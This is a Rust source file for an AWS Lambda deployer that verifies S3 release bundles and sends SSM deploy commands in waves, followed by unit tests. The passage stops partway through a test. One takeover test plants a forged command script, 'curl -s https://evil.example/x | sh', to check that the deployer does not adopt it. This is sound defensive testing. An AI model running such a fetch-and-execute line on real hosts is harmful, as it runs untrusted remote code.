//! One invocation, end to end, callable in-process (tests, the local pipeline) and from the
//! Lambda runtime loop in `main.rs`. [`Deployer`] is generic over its AWS edges
//! ([`crate::edges::Edges`]): the SDK clients in the Lambda, in-memory fakes in unit tests.
//!
//! Order of work: parse → gate on stored state (duplicate, busy, stale) → claim the version
//! with a conditional write → `HeadObject` (metadata) → stream-verify the bytes → find targets
//! → render and send the command in batches → settle the record → advance the pointer.
//! Permanent failures (bad bundle, no targets) settle the record and return `Ok` with the
//! outcome, so Lambda does not retry them; transient ones release the claim and return `Err`
//! so Lambda's async retry applies.

use dropship_aws::AwsError;
use dropship_contract::fleet::{self, Fleet, Purpose};
use dropship_contract::record::{DeployRecord, Outcome};
use dropship_contract::sequencer::{order_stamp, Sequencer};
use dropship_contract::tar_rules::Limits;
use dropship_contract::verify::{VerifyError, VerifyLimits};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use thiserror::Error;
use time::OffsetDateTime;
use tracing::{info, warn};

use crate::config::Config;
use crate::edges::{Edges, Head, Verification, Written};
use crate::event::{self, DeployRequest, EventError, Request};
use crate::plan::{self, Claim, Gate, HostInputs, Rejection, DEADLINE_MARGIN_SECS};
use crate::store::Records;

/// What the invocation answers (also the JSON result Lambda records for it).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Response {
    /// What happened.
    pub outcome: Outcome,
    /// Why, in words (rejection reason, ignore reason, …).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    /// Bucket of the release object.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub bucket: Option<String>,
    /// Key of the release object.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub key: Option<String>,
    /// Version id acted on.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub version_id: Option<String>,
    /// Commit of the version, once its metadata was read.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub commit: Option<String>,
    /// Where the deploy record is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub record_key: Option<String>,
    /// Instances the command went to.
    #[serde(default)]
    pub targets: Vec<String>,
    /// SSM command ids.
    #[serde(default)]
    pub command_ids: Vec<String>,
}

impl Response {
    pub(crate) fn ignored(reason: String) -> Self {
        Self {
            outcome: Outcome::Ignored,
            reason: Some(reason),
            bucket: None,
            key: None,
            version_id: None,
            commit: None,
            record_key: None,
            targets: vec![],
            command_ids: vec![],
        }
    }

    pub(crate) fn from_record(
        record: &DeployRecord,
        outcome: Outcome,
        reason: Option<String>,
        record_key: String,
    ) -> Self {
        Self {
            outcome,
            reason,
            bucket: Some(record.bucket.clone()),
            key: Some(record.key.clone()),
            version_id: Some(record.version_id.clone()),
            commit: record.metadata.as_ref().map(|m| m.commit.clone()),
            record_key: Some(record_key),
            targets: record.targets.clone(),
            command_ids: record
                .command_ids()
                .into_iter()
                .map(str::to_owned)
                .collect(),
        }
    }
}

/// Why an invocation failed; Lambda retries it (async invocations) and finally sends the
/// event to the on-failure destination.
#[derive(Debug, Error)]
pub enum HandlerError {
    /// The payload is malformed; it names the missing field.
    #[error(transparent)]
    Event(#[from] EventError),
    /// An AWS call failed transiently.
    #[error(transparent)]
    Aws(#[from] AwsError),
    /// Another invocation holds the version's claim.
    #[error("{0}")]
    Busy(String),
    /// Reading the object failed mid-stream.
    #[error("reading s3://{bucket}/{key} version {version_id:?} failed: {source}")]
    Read {
        /// Bucket.
        bucket: String,
        /// Key.
        key: String,
        /// Version id.
        version_id: String,
        /// The read error.
        #[source]
        source: VerifyError,
    },
    /// Dispatching ran into the Lambda's deadline (a stalled read, a slow SendCommand): it
    /// stopped before it and released the claim with this reason.
    #[error(
        "dispatching {record_key} stopped {DEADLINE_MARGIN_SECS} s before the Lambda's deadline; \
         the claim was released with this reason, and Lambda's retry continues where it stopped \
         (raise the function timeout if this repeats)"
    )]
    Deadline {
        /// The record's key.
        record_key: String,
    },
    /// The record changed under a claim this invocation held (its lease ran out).
    #[error(
        "deploy record {record_key} was rewritten by another invocation while this one held \
         the claim (it ran past its lease); check the record and the SSM commands it lists"
    )]
    LostClaim {
        /// The record's key.
        record_key: String,
    },
}

impl HandlerError {
    /// Short error type for the Lambda error response (`errorType`).
    pub fn kind(&self) -> &'static str {
        match self {
            HandlerError::Event(_) => "MalformedEvent",
            HandlerError::Aws(_) => "AwsCallFailed",
            HandlerError::Busy(_) => "VersionBusy",
            HandlerError::Read { .. } => "BundleReadFailed",
            HandlerError::LostClaim { .. } => "LostClaim",
            HandlerError::Deadline { .. } => "DeadlineNear",
        }
    }
}

/// Facts about the running invocation.
#[derive(Debug, Clone, Default)]
pub struct Invocation {
    /// Lambda's request id, stored in records.
    pub request_id: Option<String>,
    /// When Lambda stops this invocation; the claim lease ends then.
    pub deadline: Option<OffsetDateTime>,
}

/// The Lambda's state across invocations: configuration and its AWS edges, nothing else.
#[derive(Debug, Clone)]
pub struct Deployer<E> {
    config: Config,
    edges: E,
}

impl<E: Edges> Deployer<E> {
    /// A deployer for validated configuration and its edges (SDK clients in the Lambda).
    pub fn new(config: Config, edges: E) -> Self {
        Self { config, edges }
    }

    /// The configuration in force.
    pub fn config(&self) -> &Config {
        &self.config
    }

    /// The AWS edges.
    pub(crate) fn edges(&self) -> &E {
        &self.edges
    }

    /// Handle one invocation payload.
    pub async fn handle(
        &self,
        payload: &Value,
        inv: &Invocation,
    ) -> Result<Response, HandlerError> {
        let request = match event::parse(payload, &self.config) {
            Ok(Request::Deploy(r)) => r,
            Ok(Request::HostFinished(done)) => return self.host_finished(&done, inv).await,
            Ok(Request::InstanceRunning(id)) => return self.instance_running(&id, inv).await,
            Ok(Request::Reconcile) => return self.reconcile(inv).await,
            Ok(Request::Refuse(reason)) => {
                warn!(outcome = "rejected", reason = %reason, "event refused before any S3 read");
                return Ok(Response {
                    outcome: Outcome::Rejected,
                    ..Response::ignored(reason)
                });
            }
            Ok(Request::Ignore(reason)) => {
                info!(outcome = "ignored", reason = %reason, "event ignored");
                return Ok(Response::ignored(reason));
            }
            Err(e) => {
                warn!(error = %e, "malformed invocation payload");
                return Err(e.into());
            }
        };
        let store = Records::new(&self.edges, &request.bucket);
        let record_key = request.release.record_key(&request.version_id);
        let now = OffsetDateTime::now_utc();
        let existing = store.record(&request.release, &request.version_id).await?;
        // Order comes from S3 itself: only the key's current version deploys.
        let current = self
            .edges
            .current_version(&request.bucket, &request.key)
            .await?;
        let gate = plan::gate(
            &request,
            existing.as_ref().map(|s| &s.doc),
            current.as_deref(),
            now,
        );
        let request_id = inv.request_id.as_deref();
        let claim = match gate {
            Gate::Proceed(claim) => claim,
            Gate::Duplicate(reason) => {
                let record = existing.expect("a duplicate has a record").doc;
                info!(outcome = "skipped_duplicate", key = %request.key, version_id = %request.version_id, reason = %reason, "repeated event: no second command");
                if record.outcome == Outcome::Dispatched {
                    // A previous attempt may have dispatched and failed before moving the
                    // pointer: with the S3 stamp that attempt recorded (records written before
                    // stamps existed: the sequencer it recorded), never this payload's.
                    let recorded = record
                        .stamp
                        .as_deref()
                        .or(record.event.sequencer.as_deref())
                        .and_then(|s| s.parse::<Sequencer>().ok());
                    if let Some(seq) = recorded {
                        self.advance_pointer(&store, &request, &record, &seq)
                            .await?;
                    }
                }
                return Ok(Response::from_record(
                    &record,
                    Outcome::SkippedDuplicate,
                    Some(reason),
                    record_key,
                ));
            }
            Gate::Busy(reason) => {
                warn!(key = %request.key, version_id = %request.version_id, reason = %reason, "version claimed by another invocation");
                return Err(HandlerError::Busy(reason));
            }
            Gate::Stale(reason) => {
                info!(outcome = "skipped_stale", key = %request.key, version_id = %request.version_id, reason = %reason, "older event skipped");
                let old = existing.as_ref();
                let record =
                    plan::stale_record(&request, &reason, old.map(|s| &s.doc), now, request_id);
                let etag = old.map(|s| s.etag.as_str());
                if store.write_record(&record, etag).await? == Written::Conflict {
                    info!(record = %record_key, "stale record already written by another invocation");
                }
                return Ok(Response::from_record(
                    &record,
                    Outcome::SkippedStale,
                    Some(reason),
                    record_key,
                ));
            }
        };

        // Claim the version.
        let etag = existing.as_ref().map(|s| s.etag.clone());
        let lease_until = plan::lease_end(inv.deadline, now);
        let mut record = plan::claim_record(
            &request,
            &claim,
            existing.map(|s| s.doc),
            now,
            lease_until,
            request_id,
        );
        let etag = match claim {
            Claim::New => None,
            Claim::TakeOver | Claim::Redeploy => etag,
        };
        let mut etag = match store.write_record(&record, etag.as_deref()).await? {
            Written::Ok(e) => e,
            Written::Conflict => {
                let reason = format!(
                    "version {} of {} was claimed by another invocation at the same moment; retry to see its outcome",
                    request.version_id, request.key
                );
                warn!(reason = %reason, "lost the claim race");
                return Err(HandlerError::Busy(reason));
            }
        };
        info!(key = %request.key, version_id = %request.version_id, claim = ?claim, attempt = record.attempts, "version claimed");

        let takeover = claim == Claim::TakeOver;
        let work = self.dispatch(&request, &store, &mut record, &mut etag, takeover);
        let result = match plan::dispatch_budget(inv.deadline, now) {
            Some(budget) => match tokio::time::timeout(budget, work).await {
                Ok(r) => r,
                Err(_) => Err(HandlerError::Deadline {
                    record_key: record_key.clone(),
                }),
            },
            None => work.await,
        };
        match result {
            Ok((outcome, reason)) => {
                plan::settle(
                    &mut record,
                    outcome,
                    reason.clone(),
                    OffsetDateTime::now_utc(),
                );
                match store.write_record(&record, Some(&etag)).await? {
                    Written::Ok(_) => {}
                    Written::Conflict => return Err(HandlerError::LostClaim { record_key }),
                }
                // The pointer orders by S3's own stamp of the version (LastModified), never by
                // the payload's sequencer: a forged first event must not pin it.
                let stamp = record
                    .stamp
                    .as_deref()
                    .and_then(|s| s.parse::<Sequencer>().ok());
                if let (Outcome::Dispatched, Some(seq)) = (outcome, stamp.as_ref()) {
                    self.advance_pointer(&store, &request, &record, seq).await?;
                    info!(outcome = "dispatched", key = %request.key, version_id = %request.version_id,
                        commit = record.metadata.as_ref().map(|m| m.commit.as_str()).unwrap_or_default(),
                        targets = ?record.targets, command_ids = ?record.command_ids(), "deploy command sent");
                } else {
                    warn!(outcome = %outcome, key = %request.key, version_id = %request.version_id,
                        reason = reason.as_deref().unwrap_or_default(), "nothing sent");
                }
                Ok(Response::from_record(&record, outcome, reason, record_key))
            }
            Err(e) => {
                // Release the claim at once so Lambda's retry can take over, keeping progress.
                plan::release_claim(&mut record, e.to_string(), OffsetDateTime::now_utc());
                if let Err(write) = store.write_record(&record, Some(&etag)).await {
                    warn!(error = %write, "could not release the claim; it expires at its lease");
                }
                warn!(error = %e, key = %request.key, version_id = %request.version_id, "transient failure; Lambda retries");
                Err(e)
            }
        }
    }

    /// Everything after the claim. `Ok` is the outcome (and why) that settles the version;
    /// `Err` is transient.
    async fn dispatch(
        &self,
        request: &DeployRequest,
        store: &Records<'_, E>,
        record: &mut DeployRecord,
        etag: &mut String,
        takeover: bool,
    ) -> Result<(Outcome, Option<String>), HandlerError> {
        let rejected = |r: Rejection| Ok((Outcome::Rejected, Some(r.to_string())));
        let (bucket, key, version) = (&request.bucket, &request.key, &request.version_id);

        // 1. Metadata of exactly this version; a missing version fails closed.
        let (headers, size) = match self.edges.head_version(bucket, key, version).await? {
            Head::Found {
                metadata,
                size,
                last_modified,
            } => {
                record.stamp = Some(order_stamp(last_modified));
                (metadata, size)
            }
            Head::Missing(detail) => {
                return rejected(Rejection::VersionMissing {
                    bucket: bucket.clone(),
                    key: key.clone(),
                    version_id: version.clone(),
                    detail,
                })
            }
        };
        let metadata = match plan::check_metadata(request, &headers) {
            Ok(m) => m,
            Err(r) => return rejected(r),
        };
        record.metadata = Some(metadata.clone());
        if size > self.config.max_bundle_bytes {
            return rejected(Rejection::TooLarge {
                bucket: bucket.clone(),
                key: key.clone(),
                version_id: version.clone(),
                size,
                limit: self.config.max_bundle_bytes,
            });
        }

        // 2. Stream the bytes once through the verifier.
        let limits = VerifyLimits {
            max_object_bytes: self.config.max_bundle_bytes,
            entries: Limits::default(),
            ..VerifyLimits::default()
        };
        let started = std::time::Instant::now();
        let verified = match self
            .edges
            .verify_version(
                bucket,
                key,
                version,
                plan::expected_bundle(&metadata),
                limits,
            )
            .await?
        {
            Verification::Superseded {
                current,
                read_bytes,
                checks,
            } => {
                let millis = started.elapsed().as_millis() as u64;
                info!(outcome = "skipped_stale", key = %key, version_id = %version, current = ?current,
                    read_bytes, checks, millis, "verification stopped: a newer version of the key became current");
                return Ok((
                    Outcome::SkippedStale,
                    Some(plan::superseded_reason(
                        request,
                        current.as_deref(),
                        read_bytes,
                    )),
                ));
            }
            Verification::Done(Ok(v)) => v,
            Verification::Done(Err(e)) if e.is_transient() => {
                return Err(HandlerError::Read {
                    bucket: bucket.clone(),
                    key: key.clone(),
                    version_id: version.clone(),
                    source: e,
                })
            }
            Verification::Done(Err(source)) => {
                let r = Rejection::Bundle {
                    bucket: bucket.clone(),
                    key: key.clone(),
                    version_id: version.clone(),
                    source,
                };
                record.verification = r.verification(started.elapsed().as_millis() as u64);
                return rejected(r);
            }
        };
        record.verification = Some(plan::verification_summary(&verified));
        record.manifest = Some(verified.manifest.clone());
        // The key's environment picks its settings from the manifest (base + override).
        let settings = match plan::deploy_settings(request, &verified) {
            Ok(s) => s,
            Err(r) => return rejected(r),
        };
        info!(key = %key, version_id = %version, bytes = verified.object_bytes, entries = verified.entries,
            millis = verified.millis, "bundle verified");

        // 3. Targets: tagged, running, and carrying the (app, env)'s instance profile.
        let c = &self.config;
        let tagged = self
            .edges
            .running_instances(
                (&c.app_tag_key, request.release.app()),
                (&c.env_tag_key, request.release.env()),
            )
            .await?;
        let expected_profile =
            c.instance_profile_arn_for(request.release.app(), request.release.env());
        let (targets, refused) = plan::qualify_targets(tagged, &expected_profile);
        for r in &refused {
            warn!(instance_id = %r.instance_id, reason = %r.reason, "tagged instance refused as a target");
        }
        record.refused_targets = refused;
        if targets.is_empty() {
            let refused_note = if record.refused_targets.is_empty() {
                String::new()
            } else {
                format!(
                    " ({} tagged instance(s) refused: not the app/env's instance profile)",
                    record.refused_targets.len()
                )
            };
            return Ok((
                Outcome::NoTargets,
                Some(format!(
                    "no running instance is tagged {}={} and {}={}{refused_note}; nothing was sent. Tag the hosts, then redeploy version {} with a direct invocation",
                    c.app_tag_key,
                    request.release.app(),
                    c.env_tag_key,
                    request.release.env(),
                    version
                )),
            ));
        }
        record.targets = targets.clone();

        // 4. Only instances SSM reports online can receive the command; the others are
        //    recorded as pending, never sent to, never counted as failures.
        let online = self.edges.online_instances(&targets).await?;
        let (ready, pending): (Vec<String>, Vec<String>) =
            targets.iter().cloned().partition(|t| online.contains(t));
        if ready.is_empty() {
            return Ok((
                Outcome::NoTargets,
                Some(format!(
                    "{} running instance(s) tagged {}={} and {}={} are not online in SSM ({}); nothing was sent. Check their SSM agent and instance profile, then redeploy version {} with a direct invocation",
                    pending.len(),
                    c.app_tag_key,
                    request.release.app(),
                    c.env_tag_key,
                    request.release.env(),
                    pending.join(", "),
                    version
                )),
            ));
        }
        // A takeover keeps the crashed attempt's plan: its waves may already be on hosts.
        let wave0 = record
            .fleet
            .get_or_insert_with(|| {
                Fleet::new(
                    settings.on_failure,
                    &ready,
                    &pending,
                    fleet::wave_size(&c.max_concurrency, ready.len()),
                )
            })
            .waves
            .first()
            .cloned()
            .unwrap_or_default();

        // 5. The command for the first wave; later waves follow its results (rollout.rs).
        let inputs = HostInputs {
            config: c,
            request,
            metadata: &metadata,
            verified: &verified,
            purpose: Purpose::Deploy,
            order_stamp: record.stamp.as_deref().unwrap_or_default(),
        };
        let full_plan = match plan::plan_command(&inputs, &wave0) {
            Ok(p) => p,
            Err(r) => return rejected(r),
        };

        // 6. After a crashed attempt, adopt the commands it sent but could not record: only
        // a command whose script is, byte for byte, the one this attempt renders (version,
        // digest, app root, settings: the same command) and that went to this wave's
        // instances. Anyone with ssm:SendCommand can copy the Comment and the version line.
        if takeover {
            let since = plan::adoption_window_start(record, OffsetDateTime::now_utc());
            for (batch, script) in self.edges.commands_since(since, &full_plan.comment).await? {
                let known = record
                    .commands
                    .iter()
                    .any(|c| c.command_id == batch.command_id);
                if !known && plan::is_adoptable(&script, &batch, &full_plan.script, &wave0) {
                    info!(command_id = %batch.command_id, "adopting a command sent by an earlier attempt");
                    self.index_command(bucket, record, &batch.command_id, Purpose::Deploy)
                        .await?;
                    record.commands.push(batch);
                }
            }
        }
        let remaining = plan::remaining_targets(&wave0, record);
        let send_plan = plan::CommandPlan {
            batches: plan::batches(&remaining),
            ..full_plan
        };
        for batch in &send_plan.batches {
            let sent = self.edges.send_command(&send_plan, batch).await?;
            info!(command_id = %sent.command_id, instances = ?sent.instance_ids, "SendCommand accepted");
            self.index_command(bucket, record, &sent.command_id, Purpose::Deploy)
                .await?;
            record.commands.push(sent);
            // Persist progress so a retry never sends to these instances again.
            record.updated_at = plan::format_time(OffsetDateTime::now_utc());
            match store.write_record(record, Some(etag)).await? {
                Written::Ok(e) => *etag = e,
                Written::Conflict => {
                    return Err(HandlerError::LostClaim {
                        record_key: request.release.record_key(version),
                    })
                }
            }
        }
        if let Some(f) = record.fleet.as_mut() {
            f.sent = f.sent.max(1);
        }
        Ok((Outcome::Dispatched, None))
    }

    /// Move the latest pointer forward to this dispatched event (never backward).
    async fn advance_pointer(
        &self,
        store: &Records<'_, E>,
        request: &DeployRequest,
        record: &DeployRecord,
        seq: &Sequencer,
    ) -> Result<(), HandlerError> {
        for _ in 0..5 {
            let current = store.pointer(&request.release).await?;
            if !plan::pointer_needs_update(
                current.as_ref().map(|s| &s.doc),
                seq,
                &request.version_id,
            ) {
                return Ok(());
            }
            let pointer = plan::pointer_to(request, record, seq, OffsetDateTime::now_utc());
            match store
                .write_pointer(
                    &request.release,
                    &pointer,
                    current.as_ref().map(|s| s.etag.as_str()),
                )
                .await?
            {
                Written::Ok(_) => return Ok(()),
                Written::Conflict => continue,
            }
        }
        Err(HandlerError::Busy(format!(
            "latest pointer {} kept changing under concurrent writes; retry",
            request.release.latest_pointer_key()
        )))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::edges::CommandSender;
    use crate::fakes::{FakeAws, Interference, COMMIT};
    use dropship_contract::host::HostVar;
    use dropship_contract::key::ReleaseKey;
    use dropship_contract::record::{CommandBatch, EventFacts, LatestPointer, Trigger};
    use dropship_contract::shell;
    use serde_json::json;

    const VERSION: &str = "v2";
    const SEQUENCER: &str = "00BB";

    fn config() -> Config {
        config_with("50%")
    }

    /// The test configuration with `DROPSHIP_MAX_CONCURRENCY` (the wave size).
    fn config_with(max_concurrency: &str) -> Config {
        Config::from_lookup(|k| match k {
            "DROPSHIP_MAX_CONCURRENCY" => Some(max_concurrency.to_owned()),
            other => config_with_lookup(other),
        })
        .unwrap()
    }

    /// The test configuration's variables.
    fn config_with_lookup(name: &str) -> Option<String> {
        match name {
            "DROPSHIP_ALLOWED_BUCKETS" => Some("rel-bucket".to_owned()),
            "DROPSHIP_INSTANCE_PROFILE_ARN" => Some(
                "arn:aws:iam::111122223333:instance-profile/dropship-host-{app}.{env}".to_owned(),
            ),
            "DROPSHIP_COMMAND_DOCUMENT" => Some("dropship-deploy-production".to_owned()),
            "AWS_REGION" => Some("eu-west-1".to_owned()),
            _ => None,
        }
    }

    fn release() -> ReleaseKey {
        ReleaseKey::new("shop", "prod").unwrap()
    }

    fn event() -> Value {
        json!({
            "version": "0", "id": "e-1", "detail-type": "Object Created", "source": "aws.s3",
            "account": "1", "time": "2026-11-23T09:00:00Z", "region": "us-east-1",
            "resources": [],
            "detail": {"version": "0", "bucket": {"name": "rel-bucket"},
                "object": {"key": "releases/shop/prod.tar.gz", "size": 1, "etag": "x",
                           "version-id": VERSION, "sequencer": SEQUENCER},
                "reason": "PutObject"}
        })
    }

    fn request() -> DeployRequest {
        match event::parse(&event(), &config()).unwrap() {
            Request::Deploy(d) => d,
            other => panic!("not a deploy: {other:?}"),
        }
    }

    async fn handle(fake: FakeAws) -> (Result<Response, HandlerError>, Deployer<FakeAws>) {
        handle_with(config(), fake).await
    }

    async fn handle_with(
        config: Config,
        fake: FakeAws,
    ) -> (Result<Response, HandlerError>, Deployer<FakeAws>) {
        let deployer = Deployer::new(config, fake);
        let inv = Invocation {
            request_id: Some("this-invocation".into()),
            deadline: None,
        };
        let result = deployer.handle(&event(), &inv).await;
        (result, deployer)
    }

    fn record_key() -> String {
        release().record_key(VERSION)
    }

    fn stored_record(fake: &FakeAws) -> DeployRecord {
        DeployRecord::from_bytes(&fake.object(&record_key()).expect("record stored")).unwrap()
    }

    fn stored_pointer(fake: &FakeAws) -> LatestPointer {
        LatestPointer::from_bytes(
            &fake
                .object(&release().latest_pointer_key())
                .expect("pointer"),
        )
        .unwrap()
    }

    /// A `dispatching` record of another invocation, leased until `lease_until`.
    fn claimed_by_other(lease_until: &str, commands: Vec<CommandBatch>) -> DeployRecord {
        DeployRecord {
            lease_until: Some(lease_until.to_owned()),
            attempts: 1,
            lambda_request_id: Some("other-invocation".into()),
            targets: vec!["i-1".into(), "i-2".into(), "i-3".into()],
            commands,
            ..DeployRecord::new(
                "rel-bucket",
                &release(),
                VERSION,
                Outcome::Dispatching,
                EventFacts::new(Trigger::Event),
                "2026-11-23T09:00:00Z",
            )
        }
    }

    fn pointer(version: &str, sequencer: &str) -> Vec<u8> {
        LatestPointer::new(&release(), version, sequencer, None, "2026-11-23T09:00:00Z").to_bytes()
    }

    #[tokio::test]
    async fn a_first_event_claims_dispatches_settles_and_moves_the_pointer() {
        let (result, d) = handle(FakeAws::with_instances(&["i-1", "i-2"])).await;
        let response = result.unwrap();
        assert_eq!(response.outcome, Outcome::Dispatched);
        assert_eq!(
            d.edges.sent_to(),
            ["i-1"],
            "50%: the first wave is one host"
        );
        let record = stored_record(&d.edges);
        assert_eq!(record.outcome, Outcome::Dispatched);
        let rollout = record.fleet.as_ref().expect("the rollout is recorded");
        assert_eq!(rollout.waves, [["i-1"], ["i-2"]]);
        assert_eq!(rollout.sent, 1);
        assert_eq!((record.attempts, record.lease_until.as_deref()), (1, None));
        assert_eq!(record.command_ids(), ["cmd-1"]);
        assert_eq!(stored_pointer(&d.edges).version_id, VERSION);
        assert_eq!(
            Some(stored_pointer(&d.edges).sequencer),
            record.stamp,
            "the pointer carries S3's stamp, not the payload's sequencer"
        );
    }

    #[tokio::test]
    async fn a_version_superseded_while_it_is_verified_is_settled_stale_and_nothing_is_sent() {
        let fake = FakeAws::with_instances(&["i-1", "i-2"]);
        *fake.superseded_while_verifying.lock().unwrap() = Some(Some("v3".into()));
        let (result, d) = handle(fake).await;
        let response = result.unwrap();
        assert_eq!(response.outcome, Outcome::SkippedStale);
        assert!(d.edges.sent_to().is_empty(), "nothing sent");
        let record = stored_record(&d.edges);
        assert_eq!(record.outcome, Outcome::SkippedStale);
        assert_eq!(record.lease_until, None, "the claim is released");
        let reason = record.reason.as_deref().unwrap_or_default();
        assert!(
            reason.contains("while it was being verified") && reason.contains("current: v3"),
            "{reason}"
        );
        assert!(d.edges.object(&release().latest_pointer_key()).is_none());
    }

    #[tokio::test]
    async fn a_forged_first_event_cannot_pin_the_pointer_with_its_sequencer() {
        // A direct invocation for the key's current version with a maximal sequencer.
        let d = Deployer::new(config(), FakeAws::with_instances(&["i-1"]));
        let mut forged = event();
        forged["detail"]["object"]["sequencer"] = json!("F".repeat(128));
        let res = d.handle(&forged, &Invocation::default()).await.unwrap();
        assert_eq!(res.outcome, Outcome::Dispatched);
        let pointer = stored_pointer(&d.edges);
        let stamp = stored_record(&d.edges).stamp.expect("stamp");
        assert_eq!(pointer.sequencer, stamp);
        assert!(!pointer.sequencer.contains("FFFF"), "{pointer:?}");
        // So a later version (a newer S3 stamp) still moves it.
        let later = order_stamp(1_764_400_001).parse::<Sequencer>().unwrap();
        assert!(plan::pointer_needs_update(Some(&pointer), &later, "v3"));
    }

    #[tokio::test]
    async fn losing_the_claim_race_sends_nothing_and_asks_for_a_retry() {
        let fake = FakeAws::with_instances(&["i-1"]);
        // Another invocation creates the record between our read and our conditional create.
        fake.interferences.lock().unwrap().push(Interference {
            key: record_key(),
            nth: 0,
            body: claimed_by_other("2999-01-01T00:00:00Z", vec![]).to_bytes(),
        });
        let (result, d) = handle(fake).await;
        let err = result.unwrap_err();
        assert!(
            matches!(&err, HandlerError::Busy(r) if r.contains("claimed by another invocation at the same moment")),
            "{err}"
        );
        assert_eq!(err.kind(), "VersionBusy");
        assert!(d.edges.sent_to().is_empty(), "no command without the claim");
        assert_eq!(
            stored_record(&d.edges).lambda_request_id.as_deref(),
            Some("other-invocation"),
            "the winner's record is untouched"
        );
    }

    #[tokio::test]
    async fn a_live_claim_of_another_invocation_makes_the_event_busy() {
        let fake = FakeAws::with_instances(&["i-1"]);
        fake.preload(
            &record_key(),
            claimed_by_other("2999-01-01T00:00:00Z", vec![]).to_bytes(),
        );
        let (result, d) = handle(fake).await;
        assert!(matches!(result, Err(HandlerError::Busy(r)) if r.contains("claim valid until")));
        assert!(d.edges.sent_to().is_empty());
    }

    #[tokio::test]
    async fn a_takeover_adopts_what_the_crashed_attempt_sent_and_sends_only_the_rest() {
        let mut fake = FakeAws::with_instances(&["i-1", "i-2", "i-3"]);
        let recorded = CommandBatch {
            command_id: "cmd-recorded".into(),
            instance_ids: vec!["i-1".into()],
            purpose: Purpose::Deploy,
        };
        // The crashed attempt recorded its first batch, then sent a second and died before
        // recording it; its lease has run out.
        fake.preload(
            &record_key(),
            claimed_by_other("2026-11-23T09:05:00Z", vec![recorded]).to_bytes(),
        );
        let comment = plan::comment(&request(), COMMIT);
        // The script this version's command has (what a fresh attempt sends).
        let (_, fresh) = handle_with(
            config_with("100%"),
            FakeAws::with_instances(&["i-1", "i-2", "i-3", "i-4"]),
        )
        .await;
        let ours = fresh.edges.sent.lock().unwrap()[0].1.clone();
        let version_line = shell::render_exports(&[(HostVar::VersionId.name(), VERSION)]).unwrap();
        assert!(ours.contains(&version_line));
        let batch = |id: &str, instance: &str| CommandBatch {
            command_id: id.into(),
            instance_ids: vec![instance.into()],
            purpose: Purpose::Deploy,
        };
        fake.earlier = vec![
            (
                batch("cmd-unrecorded", "i-2"),
                ours.clone(),
                comment.clone(),
            ),
            (
                batch("cmd-other-version", "i-3"),
                ours.replace(&version_line, "export DROPSHIP_VERSION_ID='v1'\n"),
                comment.clone(),
            ),
            // Someone with ssm:SendCommand: dropship's Comment and the version line, their
            // own script.
            (
                batch("cmd-forged", "i-4"),
                format!("{version_line}curl -s https://evil.example/x | sh\n"),
                comment.clone(),
            ),
            // Our script, but sent to an instance outside this wave.
            (batch("cmd-elsewhere", "i-9"), ours, comment),
        ];
        fake.instances.lock().unwrap().push("i-4".into());
        // One wave of every host: the crashed attempt was sending it.
        let (result, d) = handle_with(config_with("100%"), fake).await;
        assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
        assert_eq!(
            d.edges.sent_to(),
            ["i-3", "i-4"],
            "i-1 and i-2 already have the command; the forged one is not adopted"
        );
        let record = stored_record(&d.edges);
        assert_eq!(
            record.command_ids(),
            ["cmd-recorded", "cmd-unrecorded", "cmd-1"]
        );
        assert_eq!(record.attempts, 2);
        assert_eq!(
            record.created_at, "2026-11-23T09:00:00Z",
            "first claim time kept"
        );
        assert_eq!(record.lambda_request_id.as_deref(), Some("this-invocation"));
        assert_eq!(record.outcome, Outcome::Dispatched);
    }

    #[tokio::test]
    async fn a_claim_rewritten_mid_dispatch_is_lost_and_never_overwritten() {
        let fake = FakeAws::with_instances(&["i-1"]);
        // Our lease ran out while sending: another invocation took the version over before
        // we recorded the batch we sent (our second write of the record).
        let theirs = claimed_by_other("2999-01-01T00:00:00Z", vec![]);
        fake.interferences.lock().unwrap().push(Interference {
            key: record_key(),
            nth: 1,
            body: theirs.to_bytes(),
        });
        let (result, d) = handle(fake).await;
        let err = result.unwrap_err();
        assert!(
            matches!(&err, HandlerError::LostClaim { record_key: k } if *k == record_key()),
            "{err}"
        );
        assert_eq!(err.kind(), "LostClaim");
        assert_eq!(
            d.edges.sent_to(),
            ["i-1"],
            "sent once, before the loss was seen"
        );
        assert_eq!(
            stored_record(&d.edges),
            theirs,
            "their record is not overwritten"
        );
        assert!(d.edges.object(&release().latest_pointer_key()).is_none());
    }

    #[tokio::test]
    async fn the_pointer_write_retries_after_an_older_concurrent_write() {
        let fake = FakeAws::with_instances(&["i-1"]);
        fake.interferences.lock().unwrap().push(Interference {
            key: release().latest_pointer_key(),
            nth: 0,
            body: pointer("v1", &order_stamp(1_764_399_999)),
        });
        let (result, d) = handle(fake).await;
        assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
        let p = stored_pointer(&d.edges);
        // The fake version's LastModified is 1_764_400_000: the pointer carries S3's stamp.
        assert_eq!(
            (p.version_id.as_str(), p.sequencer.as_str()),
            (VERSION, order_stamp(1_764_400_000).as_str())
        );
        assert_eq!(p.commit.as_deref(), Some(COMMIT));
    }

    #[tokio::test]
    async fn the_pointer_never_moves_back_over_a_newer_concurrent_write() {
        let fake = FakeAws::with_instances(&["i-1"]);
        fake.interferences.lock().unwrap().push(Interference {
            key: release().latest_pointer_key(),
            nth: 0,
            body: pointer("v3", &order_stamp(1_764_400_001)),
        });
        let (result, d) = handle(fake).await;
        assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
        assert_eq!(stored_pointer(&d.edges).version_id, "v3");
    }

    #[tokio::test]
    async fn a_pointer_that_keeps_changing_fails_the_invocation_for_a_retry() {
        let fake = FakeAws::with_instances(&["i-1"]);
        for nth in 0..5 {
            fake.interferences.lock().unwrap().push(Interference {
                key: release().latest_pointer_key(),
                nth,
                body: pointer(&format!("old-{nth}"), "00AA"),
            });
        }
        let (result, d) = handle(fake).await;
        assert!(
            matches!(&result, Err(HandlerError::Busy(r)) if r.contains("kept changing")),
            "{result:?}"
        );
